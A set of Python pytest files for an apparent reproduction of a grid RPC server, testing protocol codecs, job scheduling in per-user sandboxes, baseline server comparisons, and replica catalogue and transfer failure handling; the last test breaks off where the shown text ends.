    @pytest.mark.parametrize("value", SAMPLE_VALUES, ids=repr)
    def test_response_value_round_trip(self, codec, value):
        body = codec.encode_response(RPCResponse.from_result(value))
        decoded = codec.decode_response(body)
        assert decoded.result == value
        assert not decoded.is_fault

    def test_request_round_trip(self, codec):
        request = RPCRequest("file.read", ["/data/events.dat", 1024, 65536])
        decoded = codec.decode_request(codec.encode_request(request))
        assert decoded.method == "file.read"
        assert list(decoded.params) == ["/data/events.dat", 1024, 65536]

    def test_request_with_no_params(self, codec):
        decoded = codec.decode_request(codec.encode_request(RPCRequest("system.list_methods")))
        assert decoded.method == "system.list_methods"
        assert list(decoded.params) == []

    def test_fault_round_trip(self, codec):
        fault = Fault(403, "access to file.read denied")
        decoded = codec.decode_response(codec.encode_response(RPCResponse.from_fault(fault)))
        assert decoded.is_fault
        assert decoded.fault == fault
        with pytest.raises(Fault):
            decoded.unwrap()

    def test_method_list_response(self, codec):
        # The paper's measured payload: >30 method-name strings in one array.
        methods = [f"module{i}.method{i}" for i in range(35)]
        decoded = codec.decode_response(codec.encode_response(RPCResponse.from_result(methods)))
        assert decoded.result == methods

    def test_malformed_body_rejected(self, codec):
        with pytest.raises(ProtocolError):
            codec.decode_request(b"this is not a valid rpc body at all")
        with pytest.raises(ProtocolError):
            codec.decode_response(b"neither is this")

    def test_unencodable_type_rejected(self, codec):
        with pytest.raises(ProtocolError):
            codec.encode_response(RPCResponse.from_result(object()))  # type: ignore[arg-type]


class TestXMLRPCSpecifics:
    def test_content_type(self):
        assert XMLRPCCodec().content_type == "text/xml"

    def test_missing_method_name_rejected(self):
        with pytest.raises(ProtocolError):
            XMLRPCCodec().decode_request(b"<?xml version='1.0'?><methodCall><params/></methodCall>")

    def test_fault_struct_shape(self):
        body = XMLRPCCodec().encode_response(RPCResponse.from_fault(Fault(5, "boom")))
        assert b"<fault>" in body and b"faultCode" in body

    def test_untagged_value_decodes_as_string(self):
        body = (b"<?xml version='1.0'?><methodResponse><params><param>"
                b"<value>bare text</value></param></params></methodResponse>")
        assert XMLRPCCodec().decode_response(body).result == "bare text"

    def test_invalid_int_rejected(self):
        body = (b"<?xml version='1.0'?><methodResponse><params><param>"
                b"<value><int>not-a-number</int></value></param></params></methodResponse>")
        with pytest.raises(ProtocolError):
            XMLRPCCodec().decode_response(body)

    def test_wrong_root_element_rejected(self):
        with pytest.raises(ProtocolError):
            XMLRPCCodec().decode_request(b"<?xml version='1.0'?><methodResponse/>")


class TestSOAPSpecifics:
    def test_envelope_structure(self):
        body = SOAPCodec().encode_request(RPCRequest("system.echo", ["x"]))
        assert b"soap:Envelope" in body and b'method="system.echo"' in body

    def test_fault_carries_code_in_detail(self):
        body = SOAPCodec().encode_response(RPCResponse.from_fault(Fault(440, "expired")))
        decoded = SOAPCodec().decode_response(body)
        assert decoded.fault is not None and decoded.fault.code == 440

    def test_missing_body_rejected(self):
        envelope = (b"<?xml version='1.0'?>"
                    b"<soap:Envelope xmlns:soap='http://schemas.xmlsoap.org/soap/envelope/'>"
                    b"</soap:Envelope>")
        with pytest.raises(ProtocolError):
            SOAPCodec().decode_request(envelope)

    def test_missing_method_attribute_rejected(self):
        envelope = (b"<?xml version='1.0'?>"
                    b"<soap:Envelope xmlns:soap='http://schemas.xmlsoap.org/soap/envelope/'>"
                    b"<soap:Body><call/></soap:Body></soap:Envelope>")
        with pytest.raises(ProtocolError):
            SOAPCodec().decode_request(envelope)


class TestJSONRPCSpecifics:
    def test_call_id_round_trip(self):
        codec = JSONRPCCodec()
        request = RPCRequest("system.echo", ["x"], call_id=77)
        decoded = codec.decode_request(codec.encode_request(request))
        assert decoded.call_id == 77
        response = codec.decode_response(
            codec.encode_response(RPCResponse.from_result("x", call_id=77)))
        assert response.call_id == 77

    def test_v1_requests_accepted(self):
        body = b'{"method": "system.ping", "params": [], "id": 1}'
        assert JSONRPCCodec().decode_request(body).method == "system.ping"

    def test_named_params_rejected(self):
        body = b'{"jsonrpc": "2.0", "method": "m", "params": {"a": 1}, "id": 1}'
        with pytest.raises(ProtocolError):
            JSONRPCCodec().decode_request(body)

    def test_version_1_encoding_includes_null_error(self):
        body = JSONRPCCodec(version="1.0").encode_response(RPCResponse.from_result(5))
        assert b'"error": null' in body or b'"error":null' in body

    def test_invalid_version_rejected(self):
        with pytest.raises(ValueError):
            JSONRPCCodec(version="3.0")

    def test_response_without_result_or_error_rejected(self):
        with pytest.raises(ProtocolError):
            JSONRPCCodec().decode_response(b'{"jsonrpc": "2.0", "id": 1}')


class TestNegotiation:
    def test_default_codec_is_xmlrpc(self):
        assert default_codec().name == "xml-rpc"
        assert [c.name for c in all_codecs()] == ["xml-rpc", "soap",
                                                  "json-rpc", "binary"]

    @pytest.mark.parametrize("content_type,expected", [
        ("application/json", "json-rpc"),
        ("application/json; charset=utf-8", "json-rpc"),
        ("application/soap+xml", "soap"),
        ("application/xml-rpc", "xml-rpc"),
        ("text/xml", None),
        (None, None),
    ])
    def test_codec_for_content_type(self, content_type, expected):
        codec = codec_for_content_type(content_type)
        assert (codec.name if codec else None) == expected

    @pytest.mark.parametrize("codec", CODECS, ids=CODEC_IDS)
    def test_detect_codec_by_sniffing(self, codec):
        body = codec.encode_request(RPCRequest("system.ping"))
        assert detect_codec(body, None).name == codec.name

    def test_detect_codec_unknown_body(self):
        with pytest.raises(ProtocolError):
            detect_codec(b"GARBAGE", None)

    def test_codec_by_name(self):
        assert codec_by_name("soap").name == "soap"
        with pytest.raises(ProtocolError):
            codec_by_name("corba")


class TestTypeModel:
    def test_validate_accepts_nested(self):
        validate_value({"a": [1, {"b": (2.5, None, b"x")}]})

    def test_validate_rejects_non_string_keys(self):
        with pytest.raises(ProtocolError):
            validate_value({1: "x"})

    def test_validate_rejects_unknown_types(self):
        with pytest.raises(ProtocolError):
            validate_value(object())

    def test_validate_rejects_excessive_nesting(self):
        value: list = []
        node = value
        for _ in range(70):
            node.append([])
            node = node[0]
        with pytest.raises(ProtocolError):
            validate_value(value)

    def test_request_requires_method_name(self):
        with pytest.raises(ProtocolError):
            RPCRequest("")

    def test_response_unwrap_result(self):
        assert RPCResponse.from_result(41).unwrap() == 41


# -- property-based round-trips ---------------------------------------------------

# XML 1.0 cannot carry control characters (a real limitation of XML-RPC and
# SOAP, shared with the 2005 implementations), so generated strings exclude
# them; binary data is the supported channel for arbitrary bytes.
_xml_safe_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)
_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**50), max_value=2**50),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    _xml_safe_text,
    st.binary(max_size=40),
)
_xml_safe_keys = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=8)
_values = st.recursive(
    _scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(_xml_safe_keys, children, max_size=4),
    ),
    max_leaves=12,
)


@settings(deadline=None, max_examples=60)
@given(_values)
def test_xmlrpc_round_trip_property(value):
    codec = XMLRPCCodec()
    assert codec.decode_response(codec.encode_response(RPCResponse.from_result(value))).result == value


@settings(deadline=None, max_examples=60)
@given(_values)
def test_soap_round_trip_property(value):
    codec = SOAPCodec()
    assert codec.decode_response(codec.encode_response(RPCResponse.from_result(value))).result == value


@settings(deadline=None, max_examples=60)
@given(_values)
def test_jsonrpc_round_trip_property(value):
    codec = JSONRPCCodec()
    assert codec.decode_response(codec.encode_response(RPCResponse.from_result(value))).result == value


@settings(deadline=None, max_examples=60)
@given(_values)
def test_binary_round_trip_property(value):
    codec = BinaryCodec()
    assert codec.decode_response(codec.encode_response(RPCResponse.from_result(value))).result == value


@settings(deadline=None, max_examples=30)
@given(st.lists(_scalars, max_size=5))
def test_request_params_round_trip_property(params):
    for codec in CODECS:
        decoded = codec.decode_request(codec.encode_request(RPCRequest("m.n", params)))
        assert list(decoded.params) == list(params)
