"""The job service: queue semantics, scheduler execution, RPC methods."""

from __future__ import annotations

import pytest

from repro.database import Database
from repro.jobs.model import Job, JobState
from repro.jobs.queue import JobQueue
from repro.jobs.scheduler import JobScheduler
from repro.protocols.errors import Fault, FaultCode
from repro.shell.sandbox import SandboxManager

ALICE = "/O=jobs.test/CN=Alice"
BOB = "/O=jobs.test/CN=Bob"


class TestJobQueue:
    def test_submit_get_update(self):
        queue = JobQueue(Database())
        job = queue.submit(Job(owner_dn=ALICE, command="echo hi", name="first"))
        fetched = queue.get(job.job_id)
        assert fetched is not None and fetched.state is JobState.QUEUED
        fetched.state = JobState.RUNNING
        queue.update(fetched)
        assert queue.get(job.job_id).state is JobState.RUNNING

    def test_fair_share_round_robin_across_owners(self):
        queue = JobQueue(Database())
        for i in range(3):
            queue.submit(Job(owner_dn=ALICE, command=f"echo a{i}"))
        for i in range(3):
            queue.submit(Job(owner_dn=BOB, command=f"echo b{i}"))
        order = []
        for _ in range(6):
            job = queue.next_queued()
            job.state = JobState.COMPLETED
            queue.update(job)
            order.append(job.owner_dn)
        # Owners must alternate rather than draining Alice's queue first.
        assert order[:4] in ([ALICE, BOB, ALICE, BOB], [BOB, ALICE, BOB, ALICE])

    def test_fifo_within_an_owner(self):
        queue = JobQueue(Database())
        ids = [queue.submit(Job(owner_dn=ALICE, command=f"echo {i}")).job_id for i in range(3)]
        seen = []
        for _ in range(3):
            job = queue.next_queued()
            job.state = JobState.COMPLETED
            queue.update(job)
            seen.append(job.job_id)
        assert seen == ids

    def test_cancel_and_counts(self):
        queue = JobQueue(Database())
        job = queue.submit(Job(owner_dn=ALICE, command="echo x"))
        cancelled = queue.cancel(job.job_id)
        assert cancelled.state is JobState.CANCELLED
        assert queue.counts()["cancelled"] == 1
        # Cancelling a terminal job is a no-op.
        assert queue.cancel(job.job_id).state is JobState.CANCELLED
        assert queue.cancel("missing") is None

    def test_purge_terminal_scoped_by_owner(self):
        queue = JobQueue(Database())
        done = queue.submit(Job(owner_dn=ALICE, command="x", state=JobState.COMPLETED))
        queue.submit(Job(owner_dn=BOB, command="y", state=JobState.FAILED))
        queue.submit(Job(owner_dn=ALICE, command="z"))
        assert queue.purge_terminal(ALICE) == 1
        assert queue.get(done.job_id) is None
        assert queue.purge_terminal() == 1
        assert len(queue) == 1

    def test_jobs_survive_restart(self, tmp_path):
        db = Database(tmp_path / "jobs")
        JobQueue(db).submit(Job(owner_dn=ALICE, command="echo persistent", job_id="fixed-id"))
        db.close()
        reloaded = JobQueue(Database(tmp_path / "jobs"))
        assert reloaded.get("fixed-id").command == "echo persistent"


class TestJobScheduler:
    @pytest.fixture()
    def scheduler(self, tmp_path):
        queue = JobQueue(Database())
        sandboxes = SandboxManager(tmp_path / "sandboxes")
        return JobScheduler(queue, sandboxes, user_mapper=lambda dn: dn.rsplit("=", 1)[-1].lower())

    def test_run_pending_executes_and_captures_output(self, scheduler):
        job = scheduler.queue.submit(Job(owner_dn=ALICE, command="echo 125 GeV > higgs.txt && cat higgs.txt"))
        assert scheduler.run_pending() == 1
        finished = scheduler.queue.get(job.job_id)
        assert finished.state is JobState.COMPLETED
        assert finished.stdout == "125 GeV\n"
        assert finished.exit_code == 0
        assert finished.wall_time is not None

    def test_failing_command_marks_job_failed(self, scheduler):
        job = scheduler.queue.submit(Job(owner_dn=ALICE, command="cat /no/such/file"))
        scheduler.run_pending()
        finished = scheduler.queue.get(job.job_id)
        assert finished.state is JobState.FAILED
        assert finished.exit_code != 0

    def test_disallowed_command_fails_cleanly(self, scheduler):
        job = scheduler.queue.submit(Job(owner_dn=ALICE, command="python3 -c 'print(1)'"))
        scheduler.run_pending()
        assert scheduler.queue.get(job.job_id).state is JobState.FAILED

    def test_jobs_run_in_owner_sandbox(self, scheduler):
        scheduler.queue.submit(Job(owner_dn=ALICE, command="echo alice-data > out.txt"))
        scheduler.queue.submit(Job(owner_dn=BOB, command="echo bob-data > out.txt"))
        scheduler.run_pending()
        alice_out = scheduler.sandboxes.get_or_create("alice").path / "out.txt"
        bob_out = scheduler.sandboxes.get_or_create("bob").path / "out.txt"
        assert alice_out.read_text() == "alice-data\n"
        assert bob_out.read_text() == "bob-data\n"

    def test_cancelled_job_not_executed(self, scheduler):
        job = scheduler.queue.submit(Job(owner_dn=ALICE, command="echo nope"))
        scheduler.queue.cancel(job.job_id)
        assert scheduler.run_pending() == 0
        assert scheduler.queue.get(job.job_id).state is JobState.CANCELLED

    def test_max_jobs_bound(self, scheduler):
        for i in range(5):
            scheduler.queue.submit(Job(owner_dn=ALICE, command=f"echo {i}"))
        assert scheduler.run_pending(max_jobs=2) == 2
        assert scheduler.queue.counts()["queued"] == 3

    def test_background_scheduler_drains_queue(self, scheduler):
        import time

        for i in range(4):
            scheduler.queue.submit(Job(owner_dn=ALICE, command=f"echo bg{i}"))
        with scheduler:
            deadline = time.time() + 5
            while scheduler.queue.counts()["queued"] and time.time() < deadline:
                time.sleep(0.02)
        assert scheduler.queue.counts()["completed"] == 4


class TestJobServiceRPC:
    @pytest.fixture()
    def mapped_client(self, client, admin_client, alice_credential):
        admin_client.call("shell.add_mapping", "alice",
                          [str(alice_credential.certificate.subject)], [])
        return client

    def test_submit_status_output_cycle(self, mapped_client, admin_client):
        job = mapped_client.call("job.submit", "echo skim done > skim.log && cat skim.log",
                                 "skim", {"dataset": "/cms/run2005A"})
        assert job["state"] == "queued"
        assert admin_client.call("job.run_pending", 0) == 1
        status = mapped_client.call("job.status", job["job_id"])
        assert status["state"] == "completed"
        output = mapped_client.call("job.output", job["job_id"])
        assert output["stdout"] == "skim done\n"

    def test_status_of_unknown_job(self, mapped_client):
        with pytest.raises(Fault) as excinfo:
            mapped_client.call("job.status", "missing-job")
        assert excinfo.value.code == FaultCode.NOT_FOUND

    def test_other_users_jobs_are_hidden(self, mapped_client, server, loopback, bob_credential,
                                         admin_client):
        from repro.client.client import ClarensClient

        job = mapped_client.call("job.submit", "echo private", "", {})
        bob = ClarensClient.for_loopback(loopback)
        bob.login_with_credential(bob_credential)
        with pytest.raises(Fault) as excinfo:
            bob.call("job.status", job["job_id"])
        assert excinfo.value.code == FaultCode.ACCESS_DENIED
        # Admins can see it.
        assert admin_client.call("job.status", job["job_id"])["job_id"] == job["job_id"]

    def test_list_and_queue_counts(self, mapped_client):
        mapped_client.call("job.submit", "echo one", "j1", {})
        mapped_client.call("job.submit", "echo two", "j2", {})
        listed = mapped_client.call("job.list", "")
        assert {j["name"] for j in listed} >= {"j1", "j2"}
        counts = mapped_client.call("job.queue_counts")
        assert counts["queued"] >= 2

    def test_cancel_over_rpc(self, mapped_client):
        job = mapped_client.call("job.submit", "echo cancel-me", "", {})
        result = mapped_client.call("job.cancel", job["job_id"])
        assert result["state"] == "cancelled"

    def test_run_pending_requires_admin(self, mapped_client):
        with pytest.raises(Fault):
            mapped_client.call("job.run_pending", 0)

    def test_purge_own_jobs(self, mapped_client, admin_client):
        job = mapped_client.call("job.submit", "echo done", "", {})
        admin_client.call("job.run_pending", 0)
        assert mapped_client.call("job.purge", False) >= 1
        with pytest.raises(Fault):
            mapped_client.call("job.status", job["job_id"])

    def test_scheduler_start_stop_admin_only(self, mapped_client, admin_client):
        with pytest.raises(Fault):
            mapped_client.call("job.start_scheduler")
        assert admin_client.call("job.start_scheduler") is True
        assert admin_client.call("job.stop_scheduler") is True
