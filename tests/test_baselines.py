"""Baseline servers: the plain RPC dispatcher and the GT3-like comparator."""

from __future__ import annotations

import time

import pytest

from repro.baselines.globus import GlobusGT3Server
from repro.baselines.plain import PlainRPCServer
from repro.client.client import ClarensClient
from repro.protocols.errors import Fault


class TestPlainRPCServer:
    @pytest.fixture()
    def plain_client(self):
        server = PlainRPCServer()
        return ClarensClient.for_loopback(server.loopback())

    def test_builtin_methods(self, plain_client):
        assert plain_client.call("system.ping") == "pong"
        assert plain_client.call("system.echo", {"k": [1, 2]}) == {"k": [1, 2]}
        assert "system.list_methods" in plain_client.call("system.list_methods")

    def test_custom_method_registration(self):
        server = PlainRPCServer()
        server.register("math.add", lambda a, b: a + b)
        client = ClarensClient.for_loopback(server.loopback())
        assert client.call("math.add", 2, 3) == 5

    def test_unknown_method_fault(self, plain_client):
        with pytest.raises(Fault):
            plain_client.call("no.such.method")

    def test_no_authentication_needed(self, plain_client):
        # The whole point of the baseline: zero security machinery.
        assert plain_client.call("system.echo", "open access") == "open access"

    def test_method_exception_becomes_fault(self):
        server = PlainRPCServer()
        server.register("explode", lambda: 1 / 0)
        client = ClarensClient.for_loopback(server.loopback())
        with pytest.raises(Fault):
            client.call("explode")

    def test_parse_error_fault(self):
        server = PlainRPCServer()
        from repro.httpd.message import HTTPRequest

        response = server.handle_request(HTTPRequest(method="POST", path="/rpc",
                                                     body=b"<methodCall><broken>"))
        assert response.status == 200  # fault travels inside the RPC body
        assert b"fault" in response.body_bytes().lower()


class TestGlobusGT3Baseline:
    def test_trivial_method_returns_result(self):
        server = GlobusGT3Server(gt3_version="3.9.1", gridmap_size=50)
        assert server.call("counter.getValue") == 42
        assert server.call("system.echo", "hi") == "hi"
        assert server.calls_handled == 2

    def test_unknown_dn_rejected_by_gridmap(self):
        server = GlobusGT3Server(gridmap_size=10)
        with pytest.raises(Fault):
            server.call("counter.getValue", dn="/O=unknown/CN=Stranger")

    def test_unknown_method_fault(self):
        server = GlobusGT3Server(gridmap_size=10)
        with pytest.raises(Fault):
            server.call("no.such.service")

    def test_invalid_version_rejected(self):
        with pytest.raises(ValueError):
            GlobusGT3Server(gt3_version="4.2")

    def test_gt30_slower_than_gt391(self):
        """The paper's footnote orders the versions: GT 3.0 slower than 3.9.1."""

        slow = GlobusGT3Server(gt3_version="3.0", gridmap_size=200)
        fast = GlobusGT3Server(gt3_version="3.9.1", gridmap_size=200)

        def time_calls(server, n=5):
            start = time.perf_counter()
            for _ in range(n):
                server.call("counter.getValue")
            return time.perf_counter() - start

        # Warm up both (the paper ignores the first invocation too).
        slow.call("counter.getValue")
        fast.call("counter.getValue")
        assert time_calls(slow) > time_calls(fast)

    def test_clarens_dispatch_is_much_faster_than_gt3(self, server, loopback, alice_credential):
        """TXT-GT3 shape check: Clarens wins by a large factor."""

        client = ClarensClient.for_loopback(loopback)
        client.login_with_credential(alice_credential)
        gt3 = GlobusGT3Server(gt3_version="3.9.1", gridmap_size=100)
        gt3.call("counter.getValue")  # warm-up

        n = 20
        start = time.perf_counter()
        for _ in range(n):
            client.call("system.list_methods")
        clarens_rate = n / (time.perf_counter() - start)

        start = time.perf_counter()
        for _ in range(5):
            gt3.call("counter.getValue")
        gt3_rate = 5 / (time.perf_counter() - start)

        assert clarens_rate > gt3_rate * 5
