"""The replica subsystem: catalogue, transfer engine, broker, RPC service.

The failure paths the subsystem exists for are all exercised here: checksum
mismatches quarantine the offending replica, reads fail over mid-flight to
the next copy, transfers retry with backoff until exhaustion, and concurrent
register/drop operations on one LFN serialise without corruption.
"""

from __future__ import annotations

import hashlib
import threading
import time

import pytest

from repro.client.client import ClarensClient
from repro.client.errors import ClientError
from repro.client.files import download_lfn, download_lfn_http
from repro.database import Database
from repro.fileservice.vfs import VirtualFileSystem
from repro.monitoring.bus import MessageBus
from repro.protocols.errors import Fault, FaultCode
from repro.replica.broker import ReplicaBroker
from repro.replica.catalogue import ReplicaCatalogue
from repro.replica.model import (ReplicaConflictError, ReplicaError,
                                 ReplicaNotFoundError, ReplicaState,
                                 TransferState)
from repro.replica.storage import (StorageElementError,
                                   StorageElementUnavailableError,
                                   VFSStorageElement)
from repro.replica.transfer import TransferEngine

from tests.conftest import build_server


def make_se(tmp_path, name: str, files: dict[str, bytes] | None = None) -> VFSStorageElement:
    root = tmp_path / name
    root.mkdir(exist_ok=True)
    for pfn, data in (files or {}).items():
        path = root / pfn.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return VFSStorageElement(name, VirtualFileSystem(root))


def register_file(catalogue: ReplicaCatalogue, se: VFSStorageElement,
                  lfn: str, data: bytes, pfn: str | None = None) -> dict:
    pfn = pfn or lfn
    se.vfs.write(pfn, data)
    return catalogue.register(lfn, se.name, pfn, size=len(data),
                              checksum=hashlib.md5(data).hexdigest())


class FlakyReadSE(VFSStorageElement):
    """Fails the first ``fail_reads`` read calls, then behaves normally."""

    def __init__(self, name, vfs, *, fail_reads: int = 0) -> None:
        super().__init__(name, vfs)
        self.fail_reads = fail_reads

    def read(self, pfn, offset=0, length=-1):
        if self.fail_reads > 0:
            self.fail_reads -= 1
            raise StorageElementError(f"{self.name}: injected read failure")
        return super().read(pfn, offset, length)


class FlakyWriteSE(VFSStorageElement):
    """Fails the first ``fail_writes`` write_stream calls."""

    def __init__(self, name, vfs, *, fail_writes: int = 0) -> None:
        super().__init__(name, vfs)
        self.fail_writes = fail_writes

    def write_stream(self, pfn, chunks):
        if self.fail_writes > 0:
            self.fail_writes -= 1
            raise StorageElementError(f"{self.name}: injected write failure")
        return super().write_stream(pfn, chunks)


# -- catalogue -----------------------------------------------------------------

class TestCatalogue:
    def test_register_locate_roundtrip(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se = make_se(tmp_path, "se-a")
        entry = register_file(catalogue, se, "/lfn/data/f1", b"payload")
        assert entry["version"] == 1
        replicas = catalogue.replicas("/lfn/data/f1")
        assert [r.storage_element for r in replicas] == ["se-a"]
        assert replicas[0].state is ReplicaState.ACTIVE
        assert catalogue.lfns("/lfn/data") == ["/lfn/data/f1"]

    def test_every_mutation_bumps_version(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        register_file(catalogue, se_a, "/lfn/f", b"x")
        assert catalogue.version("/lfn/f") == 1
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=1,
                           checksum=hashlib.md5(b"x").hexdigest())
        assert catalogue.version("/lfn/f") == 2
        catalogue.set_state("/lfn/f", "se-b", ReplicaState.QUARANTINED,
                            error="test")
        assert catalogue.version("/lfn/f") == 3

    def test_checksum_and_size_must_match_catalogue(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se = make_se(tmp_path, "se-a")
        register_file(catalogue, se, "/lfn/f", b"good bytes")
        with pytest.raises(ReplicaConflictError):
            catalogue.register("/lfn/f", "se-b", "/lfn/f", size=10,
                               checksum="0" * 32)
        with pytest.raises(ReplicaConflictError):
            catalogue.register("/lfn/f", "se-b", "/lfn/f", size=999,
                               checksum=hashlib.md5(b"good bytes").hexdigest())

    def test_expected_version_conflict(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se = make_se(tmp_path, "se-a")
        register_file(catalogue, se, "/lfn/f", b"x")
        stale = catalogue.version("/lfn/f")
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=1,
                           checksum=hashlib.md5(b"x").hexdigest())
        with pytest.raises(ReplicaConflictError):
            catalogue.drop("/lfn/f", "se-a", expected_version=stale)
        # With the current version the same drop succeeds.
        catalogue.drop("/lfn/f", "se-a",
                       expected_version=catalogue.version("/lfn/f"))

    def test_drop_last_replica_removes_entry(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se = make_se(tmp_path, "se-a")
        register_file(catalogue, se, "/lfn/f", b"x")
        assert catalogue.drop("/lfn/f", "se-a") is None
        assert not catalogue.exists("/lfn/f")
        with pytest.raises(ReplicaNotFoundError):
            catalogue.drop("/lfn/f", "se-a")

    def test_returned_entries_do_not_alias_stored_state(self, tmp_path):
        """Mutating an entry() result must never leak into the catalogue."""

        catalogue = ReplicaCatalogue(Database())
        se = make_se(tmp_path, "se-a")
        register_file(catalogue, se, "/lfn/f", b"x")
        entry = catalogue.entry("/lfn/f")
        entry["replicas"]["evil"] = {"state": "active"}
        entry["replicas"]["se-a"]["state"] = "quarantined"
        fresh = catalogue.entry("/lfn/f")
        assert set(fresh["replicas"]) == {"se-a"}
        assert fresh["replicas"]["se-a"]["state"] == "active"
        assert catalogue.version("/lfn/f") == 1

    def test_concurrent_register_drop_race_on_one_lfn(self, tmp_path):
        """Racing registers and drops serialise; the entry never corrupts."""

        catalogue = ReplicaCatalogue(Database())
        data = b"race payload"
        checksum = hashlib.md5(data).hexdigest()
        lfn = "/lfn/contended"
        errors: list[Exception] = []
        barrier = threading.Barrier(8)

        def registrar(se_name: str) -> None:
            barrier.wait()
            for _ in range(50):
                try:
                    catalogue.register(lfn, se_name, lfn, size=len(data),
                                       checksum=checksum)
                except (ReplicaConflictError, ReplicaNotFoundError):
                    pass
                except Exception as exc:  # pragma: no cover - failure path
                    errors.append(exc)

        def dropper(se_name: str) -> None:
            barrier.wait()
            for _ in range(50):
                try:
                    catalogue.drop(lfn, se_name)
                except (ReplicaConflictError, ReplicaNotFoundError):
                    pass
                except Exception as exc:  # pragma: no cover - failure path
                    errors.append(exc)

        threads = [threading.Thread(target=registrar, args=(f"se-{i}",))
                   for i in range(4)]
        threads += [threading.Thread(target=dropper, args=(f"se-{i}",))
                    for i in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors
        # Whatever survived must be internally consistent.
        if catalogue.exists(lfn):
            entry = catalogue.entry(lfn)
            assert entry["replicas"], "an entry without replicas must be deleted"
            assert entry["version"] >= 1
            for se_name, record in entry["replicas"].items():
                assert record["storage_element"] == se_name
                assert record["checksum"] == checksum


# -- transfer engine -----------------------------------------------------------

def make_engine(catalogue, elements, **kwargs):
    kwargs.setdefault("workers", 2)
    kwargs.setdefault("retry_delay", 0.001)
    engine = TransferEngine(catalogue, {e.name: e for e in elements}, **kwargs)
    engine.start()
    return engine


class TestTransferEngine:
    def test_happy_path_copies_and_activates(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        bus = MessageBus()
        events: list[str] = []
        bus.subscribe("replica.transfer", lambda m: events.append(m.topic))
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        data = b"event data " * 1000
        register_file(catalogue, se_a, "/lfn/events", data)
        engine = make_engine(catalogue, [se_a, se_b], bus=bus)
        try:
            request = engine.submit("/lfn/events", "se-b")
            done = engine.wait(request.transfer_id, timeout=10.0)
            assert done.state is TransferState.DONE
            assert done.bytes_copied == len(data)
            assert done.src_se == "se-a"
            assert done.throughput_bps > 0
            replica = catalogue.replica_on("/lfn/events", "se-b")
            assert replica.state is ReplicaState.ACTIVE
            assert se_b.read("/lfn/events") == data
            assert "replica.transfer.queued" in events
            assert "replica.transfer.started" in events
            assert "replica.transfer.done" in events
        finally:
            engine.stop()

    def test_replicating_to_existing_replica_is_a_noop(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        register_file(catalogue, se_a, "/lfn/f", b"x")
        engine = make_engine(catalogue, [se_a, se_b])
        try:
            first = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id)
            assert first.state is TransferState.DONE
            again = engine.wait(engine.submit("/lfn/f", "se-b").transfer_id)
            assert again.state is TransferState.DONE
            assert again.bytes_copied == 0
        finally:
            engine.stop()

    def test_checksum_mismatch_quarantines_source(self, tmp_path):
        """Corrupt source bytes fail verification and quarantine the replica."""

        catalogue = ReplicaCatalogue(Database())
        bus = MessageBus()
        failures: list[dict] = []
        bus.subscribe("replica.transfer.failed",
                      lambda m: failures.append(m.payload))
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        register_file(catalogue, se_a, "/lfn/f", b"original bytes")
        # Bit-rot on the storage element after registration.
        se_a.vfs.write("/lfn/f", b"corrupted bytes")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=2, bus=bus)
        try:
            request = engine.submit("/lfn/f", "se-b")
            done = engine.wait(request.transfer_id, timeout=10.0)
            assert done.state is TransferState.FAILED
            quarantined = catalogue.replica_on("/lfn/f", "se-a")
            assert quarantined.state is ReplicaState.QUARANTINED
            assert "checksum mismatch" in quarantined.last_error
            # No half-written destination copy survives.
            with pytest.raises(ReplicaNotFoundError):
                catalogue.replica_on("/lfn/f", "se-b")
            assert not se_b.exists("/lfn/f")
            assert failures and failures[0]["lfn"] == "/lfn/f"
        finally:
            engine.stop()

    def test_checksum_mismatch_retries_from_clean_replica(self, tmp_path):
        """After quarantining the bad source, the retry uses the good one."""

        catalogue = ReplicaCatalogue(Database())
        data = b"the real bytes"
        se_a = make_se(tmp_path, "se-a")
        se_b = make_se(tmp_path, "se-b")
        se_c = make_se(tmp_path, "se-c")
        register_file(catalogue, se_a, "/lfn/f", data)
        se_b.vfs.write("/lfn/f", data)
        catalogue.register("/lfn/f", "se-b", "/lfn/f", size=len(data),
                           checksum=hashlib.md5(data).hexdigest())
        # se-a rots; keep it the preferred source by loading se-b.
        se_a.vfs.write("/lfn/f", b"the fake bytes")
        engine = make_engine(catalogue, [se_a, se_b, se_c], max_attempts=3)
        try:
            with se_b.transfer_slot():        # bias source choice toward se-a
                request = engine.submit("/lfn/f", "se-c")
                done = engine.wait(request.transfer_id, timeout=10.0)
            assert done.state is TransferState.DONE
            assert catalogue.replica_on("/lfn/f", "se-a").state \
                is ReplicaState.QUARANTINED
            assert se_c.read("/lfn/f") == data
        finally:
            engine.stop()

    def test_retry_backoff_exhaustion(self, tmp_path):
        catalogue = ReplicaCatalogue(Database())
        bus = MessageBus()
        retries: list[dict] = []
        bus.subscribe("replica.transfer.retry",
                      lambda m: retries.append(m.payload))
        se_a = make_se(tmp_path, "se-a")
        se_b = FlakyWriteSE("se-b", VirtualFileSystem(
            (tmp_path / "se-b").mkdir() or tmp_path / "se-b"), fail_writes=99)
        register_file(catalogue, se_a, "/lfn/f", b"x")
        engine = make_engine(catalogue, [se_a, se_b], max_attempts=3, bus=bus)
        try:
            request = engine.submit("/lfn/f", "se-b")
            done = engine.wait(request.transfer_id, timeout=10.0)
